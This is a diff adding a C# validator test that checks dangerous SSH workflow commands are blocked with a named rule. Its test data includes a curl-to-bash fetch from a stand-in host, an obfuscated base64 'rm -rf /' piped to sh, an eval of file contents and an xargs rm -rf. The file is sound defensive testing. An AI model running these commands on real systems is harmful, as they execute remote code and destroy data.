@@ -72,6 +72,21 @@ public sealed class WorkflowDefinitionValidatorTests
         Assert.Equal("命令验证失败", error.Title);
     }
 
+    [Theory]
+    [InlineData("curl -s http://x/s.sh | bash", "fetched-to-interpreter")]
+    [InlineData("echo cm0gLXJmIC8= | base64 -d | sh", "decoded-to-interpreter")]
+    [InlineData("eval \"$(cat /tmp/cmd)\"", "generated-code")]
+    [InlineData("ls /data | xargs rm -rf", "destructive-runtime-arguments")]
+    public void ThrowIfAny_SshStepWithHiddenOrRunTimeCode_IsBlockedNamingTheRule(string command, string rule)
+    {
+        var errors = WorkflowDefinitionValidator.CheckStructure(new WorkflowDefinition([new WorkflowStep("x", "X", "ssh", Command: command)]));
+
+        var error = Assert.Throws<NodeOpsException>(() => WorkflowDefinitionValidator.ThrowIfAny(errors));
+
+        Assert.Equal("DANGEROUS_COMMAND", error.Code);
+        Assert.Contains($"[{rule}]", error.Message, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void ThrowIfAny_WithoutBlockedCommands_IsAPlainValidationError()
     {
